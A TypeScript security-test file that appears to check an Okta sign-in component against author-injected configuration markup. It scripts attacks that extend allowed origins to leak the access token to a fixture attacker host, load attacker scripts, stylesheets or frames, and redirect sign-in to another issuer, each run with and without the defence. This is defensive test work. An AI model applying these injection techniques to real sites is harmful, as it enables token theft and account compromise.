import type { Attack, Catch } from '../attack.js';
import { codesOf, evilOf, hasRun, leads, ownerOf, rowsOf, tag, visit, write, type Kind } from '../author.js';
import type { AttackFixture } from '../fixture.js';
import { firstAnswer } from '../victim.js';
import type { Weakness } from '../weaken.js';

/* An author writes settings that extend what the page trusts. */

const without = {
  sealed: 'the seal, the list of what markup may not set',
  unsealed: 'the list of what markup may not set',
};
const defence = 'config_not_allowed';

const open: readonly Weakness[] = ['markup may extend trust', 'markup extends trust', 'the last one counts'];
const weaknesses = (kind: Kind): Weakness[] =>
  kind === 'sealed' ? [...open, 'no seal'] : [...open, 'any tag changes settings'];

async function tokenSent(fixture: AttackFixture, kind: Kind, guarded: boolean, by: 'guard' | 'fetch'): Promise<Catch> {
  const evil = fixture.attacker(fixture.path('api'));
  const config = tag('okta-config', { ...ownerOf(fixture), 'allowed-origins': new URL(evil.address).origin });
  const guard = by === 'guard' ? tag('okta-guard', { src: evil.address }) : '';
  const link = tag('a', { id: 'link', href: evil.address });
  const used = guarded ? [] : weaknesses(kind);
  const page = write(fixture, { kind, author: config + guard + link, weaknesses: used });
  return visit(fixture, page, 'signed in', async (tab) => {
    await tab.locator('#secret').waitFor();
    if (by === 'fetch')
      // A script of the owner that loads what links of articles lead to.
      await tab.evaluate(async (folder) => {
        const { getClient } = (await import(`${folder}okta-elements.js`)) as {
          getClient(): { fetch(address: string): Promise<unknown> };
        };
        const fail = ({ code }: { code: string }) =>
          void (globalThis as unknown as { codes: string[] }).codes.push(code);
        await getClient()
          .fetch((document.querySelector('#link') as HTMLAnchorElement).href)
          .catch(fail);
      }, fixture.packageFiles(used));
    return firstAnswer<Catch>(tab, async () => {
      if (evil.received.some(({ authorization }) => authorization)) return { loot: 'the access token' };
      return (await codesOf(tab)).includes('origin_not_allowed') ? { instead: 'origin_not_allowed' } : undefined;
    });
  });
}

const policies = [
  { name: '', policy: undefined },
  { name: ' under script-src with nonce and strict-dynamic', policy: "script-src 'nonce-bm9uY2U' 'strict-dynamic'" },
  { name: ', an uploaded text file, under script-src self', policy: "script-src 'self'" },
] as const;

async function embedded(
  fixture: AttackFixture,
  kind: Kind,
  guarded: boolean,
  attribute: Record<string, string>,
  isCaught: (tab: Parameters<typeof hasRun>[0]) => boolean | Promise<boolean>,
  more: { policy?: string; loot: string },
): Promise<Catch> {
  const page = write(fixture, {
    kind,
    author: tag('okta-config', { ...ownerOf(fixture), ...attribute }),
    tags: tag('okta-signin', {
      id: 'owner',
      mode: 'embedded',
      ...('frame-src' in attribute && { isolation: 'frame' }),
    }),
    policy: more.policy,
    weaknesses: guarded ? [] : weaknesses(kind),
  });
  return visit(fixture, page, 'new', (tab) =>
    firstAnswer<Catch>(tab, async () => {
      if (await isCaught(tab)) return { loot: more.loot };
      if (await tab.locator('#owner input[name=identifier]').isVisible()) return { instead: 'the form of the package' };
      return (await tab.locator('#owner').getAttribute('state')) === 'error' && guarded
        ? { instead: 'the owner named no frame' }
        : undefined;
    }),
  );
}

export const authorSettingsRows: readonly Attack[] = [
  ...rowsOf({
    name: 'allowed-origins, and a guard with src there',
    aim: 'the access token',
    without,
    defence,
    run: (fixture, kind, guarded) => tokenSent(fixture, kind, guarded, 'guard'),
  }),
  ...rowsOf({
    name: 'allowed-origins, and a link that the owner’s script fetches',
    aim: 'the access token',
    without,
    defence,
    run: (fixture, kind, guarded) => tokenSent(fixture, kind, guarded, 'fetch'),
  }),
  ...policies.flatMap(({ name, policy }) =>
    rowsOf({
      name: `widget-src${name}`,
      aim: 'a script in the page',
      without,
      defence,
      run(fixture, kind, guarded) {
        const script = { type: 'text/plain', text: 'globalThis.ran = true' };
        const src =
          policy === "script-src 'self'"
            ? fixture.file('app', fixture.path('uploads/note.txt'), script)
            : fixture.attacker(fixture.path('x.js'), () => ({ ...script, type: 'text/javascript' })).address;
        return embedded(fixture, kind, guarded, { 'widget-src': src }, hasRun, {
          policy,
          loot: 'a script in the page',
        });
      },
    }),
  ),
  ...rowsOf({
    name: 'widget-css',
    aim: 'a stylesheet in the page',
    without,
    defence,
    run(fixture, kind, guarded) {
      const evil = fixture.attacker(fixture.path('x.css'), () => ({ type: 'text/css', text: '' }));
      const isCaught = () => evil.received.length > 0;
      return embedded(fixture, kind, guarded, { 'widget-css': evil.address }, isCaught, {
        loot: 'a stylesheet in the page',
      });
    },
  }),
  ...rowsOf({
    name: 'frame-src',
    aim: 'a form in place of the owner’s',
    without,
    defence,
    run(fixture, kind, guarded) {
      const evil = fixture.attacker(fixture.path('frame/'));
      const isCaught = () => evil.received.length > 0;
      return embedded(fixture, kind, guarded, { 'frame-src': evil.address }, isCaught, {
        loot: 'a form in place of the owner’s',
      });
    },
  }),
  ...rowsOf({
    name: 'src with an uploaded file that names another issuer',
    aim: 'the sign-in',
    without: 'an owner’s script that names the file',
    defence,
    run(fixture, kind, guarded) {
      const text = JSON.stringify(evilOf(fixture));
      const src = new URL(fixture.file('app', fixture.path('uploads/okta.json'), { type: 'application/json', text }))
        .pathname;
      const page = guarded
        ? write(fixture, { kind, author: tag('okta-config', { src }) })
        : write(fixture, { kind: 'sealed', author: '', json: { src } });
      return visit(fixture, page, 'new', (tab) => leads(fixture, tab, 'owner', 'the sign-in'));
    },
  }),
];
